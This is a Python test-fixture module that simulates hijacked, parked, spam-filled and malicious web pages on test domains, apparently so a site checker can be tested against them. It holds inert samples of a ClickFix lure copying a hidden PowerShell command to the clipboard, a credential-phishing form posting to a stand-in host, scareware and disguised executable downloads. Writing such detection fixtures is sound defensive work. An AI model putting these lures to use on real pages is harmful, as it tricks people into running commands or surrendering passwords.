"""Addresses that belong to somebody else now: for sale, full of advertising, gambling, pills, loans, or worse."""

# ruff: noqa: E501 -- a line is often a whole page of a server

from __future__ import annotations

from tests.world.answers import answer, raw, redirect
from tests.world.pages import TEXT, bare, page
from tests.world.scenes_unseen_gone import site
from tests.world.server import Behaviour
from tests.world.stage import Scene, Stage, scene, scenes, serving, variants

OTHERS_ADDRESS = "127.0.0.66"


def notice(title: str, body: str, *, lang: str = "en", status: int = 200) -> Behaviour:
    """A page with this heading and these words."""
    return answer(status, bare(title, f"<h1>{title}</h1><p>{body}</p>", lang=lang))


def led_to(*targets: str) -> Scene:
    """Each address redirects to one of these; whoever lives there shows a shop window for domains."""

    def play(stage: Stage) -> None:
        variants(*(redirect(target) for target in targets))(stage)
        for target in targets:
            host = target.split("/")[2]
            stage.resolve(host, OTHERS_ADDRESS)
            stage.serve(notice("charity.test", "Make an offer for this name."), host=host, path="*")

    return play


LANDER = (
    '<!doctype html><html><head><script>window.onload=function(){window.location.href="/lander"}</script></head></html>'
)
SEARCHES = "".join(
    f'<li><a href="/search?q={number}">{words}</a></li>'
    for number, words in enumerate(("Donate Car", "Charity Jobs", "Cheap Flights", "Life Insurance", "Gift Cards"))
)
RELATED = bare(
    "charity.test",
    '<script src="https://www.google.com/adsense/domains/caf.js"></script><div id="sale_banner"></div>'
    f"<h2>Related searches</h2><ul>{SEARCHES}</ul><p>2026 Copyright. All Rights Reserved. Privacy Policy</p>",
)


@scene("parked-lander")
def _lander(stage: Stage) -> None:
    stage.serve(answer(200, LANDER))
    stage.serve(answer(200, RELATED), path="/lander")


FOR_SALE = {
    "parked-en": variants(
        notice("charity.test is available for purchase", "Own it today: buy now for $2,495 or lease to own."),
        notice("charity.test", "The owner of this domain is willing to sell it. Make an offer through our broker."),
        notice("The domain name charity.test is for sale!", "Fill in the form and get a quote. Secure escrow payment."),
        notice("Premium domain", "This premium domain name may be available. Inquire now."),
        notice("Want to buy this domain?", "Our brokers can help you to get charity.test."),
    ),
    "parked-languages": variants(
        *(
            notice(title, body, lang=lang)
            for lang, title, body in (
                ("es", "Este dominio está en venta", "Compre el dominio charity.test. Haga una oferta."),
                ("it", "Questo dominio è in vendita", "Acquista il dominio charity.test. Fai un'offerta."),
                ("pt", "Este domínio está à venda", "Compre o domínio charity.test agora."),
                ("pl", "Domena na sprzedaż", "Domena charity.test jest na sprzedaż. Złóż ofertę."),
                ("nl", "Dit domein is te koop", "Doe een bod op charity.test."),
                ("tr", "Bu alan adı satılıktır", "charity.test alan adını satın alın. Teklif verin."),
                ("uk", "Домен продається", "Доменне ім'я charity.test можна купити."),
                ("ru", "Доменное имя выставлено на продажу", "Вы можете купить домен charity.test, сделайте ставку."),
                ("zh", "该域名正在出售", "域名 charity.test 可以购买，请出价。"),
                ("ja", "このドメインは販売中です", "charity.test を購入できます。"),
                ("de", "Domain zu verkaufen", "Die Domain charity.test wird zum Kauf angeboten. Angebot abgeben."),
                ("fr", "Nom de domaine en vente", "Achetez charity.test, faites une offre."),
            )
        )
    ),
    "parked-related-searches": serving(answer(200, RELATED)),
    "parked-keeps-title": serving(
        answer(200, bare("Donate - Charity", "<h1>charity.test</h1><p>This domain is for sale. Make an offer.</p>"))
    ),
    "parked-marketplaces": led_to(
        "http://www.hugedomains.com/domain_profile.cfm?d=charity.test",
        "http://sedo.com/search/details/?domain=charity.test",
        "http://dan.com/buy-domain/charity.test",
        "http://www.afternic.com/forsale/charity.test",
        "http://ww1.charity.test.bodis.com/",
    ),
    "parked-expired-notice": variants(
        notice("This domain has expired", "If you are the owner, renew charity.test at your registrar."),
        notice("Domain expired", "The registration of this domain name has expired and is pending renewal."),
        notice("Срок регистрации домена истёк", "Домен charity.test необходимо продлить.", lang="ru"),
        notice("Domaine expiré", "Ce nom de domaine a expiré. Renouvelez-le auprès de votre bureau.", lang="fr"),
        notice("Domain abgelaufen", "Die Registrierung dieser Domain ist abgelaufen.", lang="de"),
    ),
    "parked-fresh-registration": variants(
        notice("charity.test", "This domain has just been registered. Its website is coming."),
        notice("Domain parked", "This domain is parked free of charge with its registrar."),
        notice("Parked Domain", "This web page is parked for free. Get your own domain name."),
        notice("Домен припаркован", "Домен зарегистрирован и припаркован.", lang="ru"),
    ),
    "parked-frame": serving(
        answer(
            200,
            "<html><head><title>charity.test</title></head><frameset rows='100%,*'>"
            "<frame src='http://parking.test/?d=charity.test'></frameset></html>",
        )
    ),
}
# A person sees the body whatever the status says.
BEHIND_STATUS = {
    "parked-behind-403": serving(notice("charity.test", "This domain is for sale. Buy this domain.", status=403)),
    "parked-behind-404": serving(notice("charity.test", "This domain is for sale. Buy this domain.", status=404)),
}


def usurped(lang: str, *pages: tuple[str, str]) -> Scene:
    """Each (title, words): the words fill a page."""
    return variants(*(notice(title, f"{words} " * 6, lang=lang) for title, words in pages))


USURPED = {
    "usurped-id": usurped(
        "id",
        ("Link Alternatif Togel Online Resmi", "Bandar togel terpercaya, taruhan bola, deposit dana tanpa potongan."),
        ("RTP Slot Pragmatic Hari Ini", "Mainkan slot online gampang menang, maxwin, judi slot terpercaya."),
    ),
    "usurped-zh": usurped(
        "zh",
        ("澳门娱乐场官方网站", "真人百家乐,老虎机,体育投注,注册送彩金。"),
        ("彩票投注平台", "时时彩,北京赛车,棋牌游戏,博彩公司,在线赌场。"),
    ),
    "usurped-ru": usurped(
        "ru",
        ("Вулкан казино — официальный сайт", "Игровые автоматы онлайн, фриспины, бездепозитный бонус, ставки на спорт."),
        ("Купить виагру с доставкой", "Дженерики: виагра, сиалис, левитра без рецепта, интернет-аптека."),
    ),
    "usurped-tr": usurped(
        "tr",
        ("Deneme Bonusu Veren Siteler", "Kaçak bahis, slot siteleri, canlı casino, rulet, güncel giriş adresi."),
        ("Escort Bayan", "Escort bayanlar, eskort ilanları, gecelik."),
    ),
    "usurped-other-languages": variants(
        *(
            notice(title, f"{words} " * 6, lang=lang)
            for lang, title, words in (
                ("th", "เว็บตรงสล็อต", "สล็อตออนไลน์ บาคาร่า คาสิโน แทงบอล ฝากถอนไม่มีขั้นต่ำ"),
                ("vi", "Nhà cái uy tín", "Cá cược bóng đá, casino trực tuyến, nổ hũ, xóc đĩa, tài xỉu."),
                ("ko", "토토사이트 추천", "카지노사이트, 바카라사이트, 안전놀이터, 먹튀검증, 슬롯."),
                ("pt", "Apostas esportivas e cassino online", "Cassino online, caça-níqueis, bônus, bet, rodadas grátis."),
                ("de", "Online Casino ohne Lizenz", "Spielautomaten, Freispiele, Sportwetten, Bonus ohne Einzahlung."),
                ("es", "Casino online y apuestas deportivas", "Tragamonedas, giros gratis, bono de bienvenida, ruleta."),
                ("fr", "Casino en ligne fiable", "Machines à sous, tours gratuits, paris sportifs, bonus sans dépôt."),
                ("uk", "Онлайн казино України", "Ігрові автомати, фріспіни, ставки на спорт, бонус без депозиту."),
            )
        )
    ),
    "usurped-en": usurped(
        "en",
        ("Top 10 Crypto Casinos 2026", "Play slots, roulette and blackjack with bonus spins at the best betting sites."),
        ("Buy Cialis and Levitra", "Tadalafil, sildenafil and generic pills shipped overnight, no Rx needed."),
        ("Hot girls live cams", "Free porn videos, xxx, escorts near you, nude webcams."),
    ),
    "usurped-softly": usurped(
        "en",
        ("Payday Loans Online", "Instant cash advance, bad credit loans approved in minutes, no credit check."),
        ("Write My Essay For Me", "Cheap essay writing service, custom papers by professional writers."),
        ("Replica Watches Outlet", "Best replica Rolex and designer handbags at outlet prices."),
        ("Микрозаймы онлайн на карту без отказа", "Быстрые займы, кредит без проверки истории, деньги до зарплаты."),
        ("Watch Full Movies Free", "Streaming in HD without sign-up, download torrents, live sport streams."),
    ),
    "usurped-keeps-title": variants(
        answer(200, bare("Donate - Charity", f"<h1>Slot Gacor</h1><p>{'Situs judi slot online terpercaya. ' * 8}</p>")),
        answer(200, bare("Donate - Charity", f"<h1>Charity</h1><p>{'Онлайн казино, игровые автоматы. ' * 8}</p>")),
        answer(200, bare("Charity | Bandar Togel", f"<h1>Donate</h1><p>{'Togel online, casino, slot. ' * 8}</p>")),
    ),
    "usurped-in-gbk": serving(
        answer(
            200,
            '<html><head><meta http-equiv="Content-Type" content="text/html; charset=gb2312">'
            f"<title>澳门赌场</title></head><body><h1>澳门赌场</h1>{'百家乐 老虎机 体育投注 博彩 ' * 9}</body></html>".encode("gbk"),
            content_type="text/html",
        )
    ),
    "usurped-in-keywords": serving(
        answer(
            200,
            '<html><head><title>Welcome</title><meta name="description" content="Slot gacor, judi online, togel, casino '
            'terpercaya"><meta name="keywords" content="slot, casino, togel, judi"></head>'
            "<body><img src='/banner.webp' alt='situs slot gacor'><a href='http://evil.test/daftar'>DAFTAR</a></body></html>",
        )
    ),
    "revived-from-archive": serving(
        answer(
            200,
            page(
                form="", account="",
                text=f'{TEXT} Good causes thrive on luck: try an <a href="http://evil.test/c">online casino</a>, '
                '<a href="http://evil.test/s">free spins</a> or <a href="http://evil.test/b">sports betting</a>.',
            ),
        )
    ),
}  # fmt: skip
STAY_AWAY = variants(
    notice("This domain has been seized", "Seized by law enforcement under a warrant."),
    notice("Deceptive site", "This website was taken down for fraud."),
)
CLICK_FIX = (
    "<h1>Verify you are human</h1><div class='g-recaptcha'></div><ol><li>Press Windows + R</li><li>Press Ctrl + V</li>"
    "<li>Press Enter</li></ol><script>navigator.clipboard.writeText('powershell -w hidden')</script>"
)
SCARE = "<h1>Your computer has been infected</h1><p>Call the support line at once: +1-800-000-0000. Do not switch it off.</p>"
DEFACED = variants(
    notice("Pwned by nobody", "Your security is low. Greetz."),
    notice("./defaced", "Hacked. We are everywhere. Expect us."),
    notice("Взломано", "Этот сайт взломан командой.", lang="ru"),
    notice("HackeD By Team", "Site hacklendi.", lang="tr"),
)
DOWNLOADS = (
    raw(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/vnd.android.package-archive\r\n"
        b"Content-Disposition: attachment; filename=\"donate.apk\"\r\nConnection: close\r\n\r\nPK\x03\x04" + bytes(400)
    ),
    answer(200, bytes(600), [("Content-Disposition", "attachment; filename*=UTF-8''photo%2Ejpg%2Escr")],
           content_type="application/octet-stream"),
    answer(200, b"MZ\x90\x00" + bytes(500), content_type="application/x-msdownload"),
    answer(200, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), [("Content-Disposition", "attachment; filename=a.msi")]),
    answer(200, "<job><script>new ActiveXObject('x')</script></job>", [("Content-Disposition", "attachment; filename=a.hta")],
           content_type="application/hta"),
)  # fmt: skip
scenes(
    FOR_SALE
    | BEHIND_STATUS
    | USURPED
    | {
        "seized": STAY_AWAY,
        "click-fix": variants(
            answer(200, bare("Just a moment...", CLICK_FIX)), answer(403, bare("Verification", CLICK_FIX))
        ),
        "scareware": serving(answer(200, bare("Security warning", SCARE))),
        "scareware-behind-403": serving(answer(403, bare("Security warning", SCARE))),
        "defaced-further": DEFACED,
        "downloads-further": variants(*DOWNLOADS),
        "another-site-entirely": serving(
            answer(
                200,
                site(
                    "Kitchen corner",
                    "<h1>How to season a pan</h1><p>" + "Heat the oil until it shimmers, then wipe. " * 30 + "</p>",
                ),
            )
        ),
        "mail-login-phish": serving(
            answer(
                200,
                bare(
                    "Sign in to your mailbox",
                    '<h1>Session expired</h1><form action="https://unknownpay.test/l.php" method="post">'
                    '<input name="email"><input type="password" name="p"></form>',
                ),
            )
        ),
    }
)
